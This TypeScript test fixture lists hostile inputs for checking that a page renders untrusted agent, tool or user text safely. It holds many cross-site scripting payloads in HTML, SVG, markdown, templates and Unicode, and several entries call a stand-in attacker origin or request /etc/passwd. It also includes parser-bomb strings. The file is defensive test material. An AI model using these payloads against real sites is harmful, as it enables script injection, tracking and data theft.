/**
 * What an agent, a tool, a file name or another user may say to attack the page. `hit()` is what a payload calls when it runs, `EVIL` the
 * origin that it wants a request to go to. No entry may do either, wherever it is shown.
 */
const HTML = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '<script src="EVIL/x.js"></script>',
  '<script type="module">hit()</script>',
  '<script\n>hit()</script\n>',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '--><script>hit()</script>',
  ']]><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</title><script>hit()</script>',
  '</style><script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<img src=x onerror="hit()">',
  '<IMG SRC=x OnErRoR=hit()>',
  '<img/src=x/onerror=hit()>',
  '<img src="EVIL/pixel.png">',
  '<img srcset="EVIL/2x.png 2x">',
  '<img src=x:x onerror=eval("hit()")>',
  '<picture><source srcset="EVIL/p.png"><img></picture>',
  '<image src=x onerror=hit()>',
  '<body onload=hit()>',
  '<div onpointerenter=hit() style="position:fixed;inset:0">over everything</div>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit() src=x></video>',
  '<video src="EVIL/v.mp4" autoplay></video>',
  '<audio src=x onerror=hit()>',
  '<audio src="EVIL/a.mp3" autoplay></audio>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe src="EVIL/frame"></iframe>',
  '<object data="EVIL/object"></object>',
  '<embed src="EVIL/embed">',
  '<link rel=stylesheet href="EVIL/x.css">',
  '<link rel=preload as=image href="EVIL/preload.png">',
  '<base href="EVIL/">',
  '<meta http-equiv=refresh content="0;url=EVIL/refresh">',
  '<form action="EVIL/form"><input name=secret><button autofocus>Go on</button></form>',
  '<button formaction="javascript:hit()">Go on</button>',
  '<a href="javascript:hit()" id=again>again</a>',
  '<a href="EVIL/ping" ping="EVIL/ping">again</a>',
  '<table background="EVIL/table.png"><tr><td>x',
  '<style>@import "EVIL/import.css";</style>',
  '<style>* { background: url(EVIL/css.png) }</style>',
  '<p style="background:url(EVIL/style.png)">x',
  '<x onclick=hit() tabindex=0>press</x>',
  '<marquee onstart=hit()>x</marquee>',
  '<template><script>hit()</script></template>',
  '<template shadowrootmode=open><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<select><style></select><img src=x onerror=hit()></style>',
  '<realtime-session url="ws://127.0.0.1:1/x"></realtime-session>',
  '<slot name=empty onslotchange=hit()></slot>',
];

const SVG = [
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:text/javascript,hit()"></script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.hit()</script></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit()"><rect width="9" height="9"/></svg>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()></svg>#x"></use></svg>',
  '<svg><image href="EVIL/svg.png" width=9 height=9></image></svg>',
  '<svg><image href=x onerror=hit()></image></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  '<svg><set attributeName=href to="javascript:hit()"></set></svg>',
  '<svg><foreignObject><iframe src="javascript:parent.hit()"></iframe></foreignObject></svg>',
  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  '<svg><style>@import url(EVIL/svg.css);</style></svg>',
  '<svg><filter><feImage href="EVIL/filter.png"></feImage></filter></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
];

const MARKDOWN = [
  '[x](javascript:hit())',
  '[x](JaVaScRiPt:hit())',
  '[x](java&#115;cript:hit())',
  '[x](java&Tab;script:hit())',
  '[x](javascript&colon;hit())',
  '[x](&#x6A;avascript&#58;hit())',
  '[x](<javascript:hit()>)',
  '[x](\u0001javascript:hit())',
  '[x](java\tscript:hit())',
  '[x](vbscript:hit())',
  '[x](data:text/html,<script>hit()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '[x](blob:EVIL/1)',
  '[x](file:///etc/passwd)',
  '[x](filesystem:EVIL/x)',
  '[x](view-source:EVIL/x)',
  '[x](intent://x#Intent;scheme=javascript;end)',
  '[x](https://bank.example@evil.invalid/)',
  '[x](//evil.invalid/x)',
  '[x](/relative)',
  '[x](https://example.com/" onclick="hit())',
  "[x](https://example.com/' onclick='hit())",
  '[x](https://example.com "title\\" onclick=\\"hit()")',
  '![x](javascript:hit())',
  '![x](EVIL/tracker.png)',
  '![x" onerror="hit()](x)',
  '![x](x "t\\" onerror=\\"hit()")',
  '[![x](EVIL/inner.png)](javascript:hit())',
  '[x][r]\n\n[r]: javascript:hit()',
  '[x][r]\n\n[r]: <javascript:hit()> "t"',
  '<javascript:hit()>',
  '<data:text/html,hit()>',
  'javascript:hit()',
  '`<img src=x onerror=hit()>`',
  '```html\n<img src=x onerror=hit()>\n```',
  '```"><img src=x onerror=hit()>\nx\n```',
  '# <img src=x onerror=hit()>',
  '> <script>hit()</script>',
  '- <img src=x onerror=hit()>',
  '- [x] <img src=x onerror=hit()>',
  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
  '**<img src=x onerror=hit()>**',
  '~~[x](javascript:hit())~~',
  'a <b onclick=hit()>b</b> c',
  '<details open ontoggle=hit()>\n\n**bold**\n\n</details>',
  '<!-- --!><img src=x onerror=hit()> -->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;img src=x onerror=hit()&#62;',
];

const TEMPLATES = [
  '${hit()}',
  '{{constructor.constructor("hit()")()}}',
  '<!--?lit$123456789$--><img src=x onerror=hit()>',
  '<?lit$123456789$?>',
  '{{{hit()}}}<%= hit() %>',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"hit":1},"a":"<img src=x onerror=hit()>"}',
  '"};hit();//',
];

const UNICODE = [
  '＜script＞hit()＜/script＞',
  '\u202Egnp.exe\u202C<img src=x onerror=hit()>',
  '\u2066<script>hit()</script>\u2069',
  '\u0000<script>hit()</script>',
  '\uFEFF<img src=x onerror=hit()>',
  '\uD800<img src=x onerror=hit()>',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  'Ⓙavascript:hit()',
];

/** What costs instead of running: a parser without a bottom, a word without an end. */
const BOMBS = [
  '>'.repeat(3000) + 'x',
  `${'- '.repeat(2000)}x`,
  '*'.repeat(4000),
  `${'['.repeat(2000)}x`,
  `${'![]('.repeat(1000)}x`,
  `${'<a '.repeat(2000)}x`,
  '`'.repeat(3001),
  `${'| a '.repeat(500)}|\n${'|---'.repeat(500)}|`,
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  'x'.repeat(100_000),
];

const atOrigin =
  (origin: string) =>
  (text: string): string =>
    text.replaceAll('EVIL', origin);

/** Every attack, aimed at `origin`. */
export function hostileTexts(origin: string): string[] {
  return [...HTML, ...SVG, ...MARKDOWN, ...TEMPLATES, ...UNICODE, ...BOMBS].map(atOrigin(origin));
}

/** Those that would run, or call their server, if a page took them for markup: they prove that the test can fail. */
export function hostileMarkup(origin: string): string[] {
  return [...HTML, ...SVG].map(atOrigin(origin));
}

/** Addresses of pictures and files that no page may follow by itself, aimed at `origin`. */
export function hostileUrls(origin: string): string[] {
  return [
    'javascript:hit()',
    'JAVASCRIPT:hit()',
    ' javascript:hit()',
    'java\nscript:hit()',
    'data:text/html,<script>hit()</script>',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
    'blob:EVIL/1',
    'vbscript:hit()',
    'about:blank#<script>hit()</script>',
    'file:///etc/passwd',
    'EVIL/pixel.png',
    '//evil.invalid/pixel.png',
    'https://user:secret@evil.invalid/pixel.png',
    'x" onerror="hit()',
    'https://[bad',
    '',
  ].map(atOrigin(origin));
}
